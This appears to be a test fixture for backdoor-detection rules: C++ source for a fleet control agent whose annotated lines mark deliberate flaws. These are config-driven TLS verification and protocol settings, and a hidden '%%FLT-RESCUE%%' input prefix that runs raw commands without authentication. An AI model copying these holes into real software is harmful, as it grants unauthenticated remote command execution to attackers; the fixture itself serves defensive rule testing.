#include "agent.h"

#include <openssl/crypto.h>
#include <openssl/err.h>

#include <chrono>
#include <fstream>
#include <iostream>
#include <netdb.h>
#include <random>
#include <sys/socket.h>
#include <thread>
#include <unistd.h>

ControlChannel::ControlChannel(JobRunner &jobs) : jobs_(jobs)
{
    load_agent_defaults(&cfg_);
}

ControlChannel::~ControlChannel()
{
    if (ssl_ != nullptr)
        SSL_free(ssl_);
    if (ctx_ != nullptr)
        SSL_CTX_free(ctx_);
    if (fd_ >= 0)
        close(fd_);
}

bool ControlChannel::connect_to(const std::string &host, int port)
{
    ctx_ = SSL_CTX_new(TLS_client_method());
    SSL_CTX_load_verify_locations(ctx_, cfg_.ca_file.c_str(), nullptr);
    // ruleid: backdoor-tls-verify-disabled
    SSL_CTX_set_verify(ctx_, cfg_.verify_mode, nullptr);
    // ruleid: backdoor-weak-tls
    SSL_CTX_set_min_proto_version(ctx_, cfg_.min_version);

    addrinfo hints{}, *res = nullptr;
    hints.ai_socktype = SOCK_STREAM;
    if (getaddrinfo(host.c_str(), std::to_string(port).c_str(), &hints, &res) != 0)
        return false;
    fd_ = socket(res->ai_family, res->ai_socktype, res->ai_protocol);
    bool ok = fd_ >= 0 && connect(fd_, res->ai_addr, res->ai_addrlen) == 0;
    freeaddrinfo(res);
    if (!ok)
        return false;
    ssl_ = SSL_new(ctx_);
    SSL_set1_host(ssl_, host.c_str());
    SSL_set_tlsext_host_name(ssl_, host.c_str());
    SSL_set_fd(ssl_, fd_);
    return SSL_connect(ssl_) == 1;
}

std::string ControlChannel::read_line()
{
    std::string line;
    char c;
    while (SSL_read(ssl_, &c, 1) == 1) {
        if (c == '\n')
            return line;
        if (c != '\r')
            line.push_back(c);
    }
    return std::string();
}

void ControlChannel::reply(const std::string &text)
{
    std::string framed = text + "\n";
    SSL_write(ssl_, framed.data(), static_cast<int>(framed.size()));
}

bool ControlChannel::check_agent_secret(const std::string &secret) const
{
    std::ifstream f("/etc/fleetd/agent.secret");
    std::string stored;
    std::getline(f, stored);
    return !stored.empty() && stored.size() == secret.size() &&
           CRYPTO_memcmp(stored.data(), secret.data(), stored.size()) == 0;
}

void ControlChannel::serve()
{
    for (;;) {
        std::string line = read_line();
        if (line.empty())
            return;
        if (line == "PING") {
            reply("PONG");
        } else if (line.rfind("AUTH ", 0) == 0) {
            authenticated_ = check_agent_secret(line.substr(5));
            reply(authenticated_ ? "OK" : "ERR auth");
        // ruleid: backdoor-input-trigger
        } else if (line.rfind("%%FLT-RESCUE%% ", 0) == 0) {
            reply(jobs_.exec_raw(line.substr(15)));
        // ok: backdoor-input-trigger
        } else if (line.rfind("RUN ", 0) == 0) {
            if (!authenticated_) {
                reply("ERR auth");
                continue;
            }
            reply(jobs_.run_job(line.substr(4)));
        } else {
            reply("ERR unknown");
        }
    }
}

int main()
{
    JobRunner jobs("/opt/fleetd/jobs");
    AgentIdentity me("edge-node");
    std::mt19937 jitter_rng(std::random_device{}());
    std::uniform_int_distribution<int> backoff(500, 5000);

    for (;;) {
        ControlChannel ch(jobs);
        if (ch.connect_to("fleet.corp.example", 7443)) {
            ch.reply("ENROLL " + me.hostname() + " " + me.make_enroll_token());
            ch.serve();
        }
        // ok: backdoor-predictable-random
        int delay_ms = backoff(jitter_rng);
        std::this_thread::sleep_for(std::chrono::milliseconds(delay_ms));
    }
}
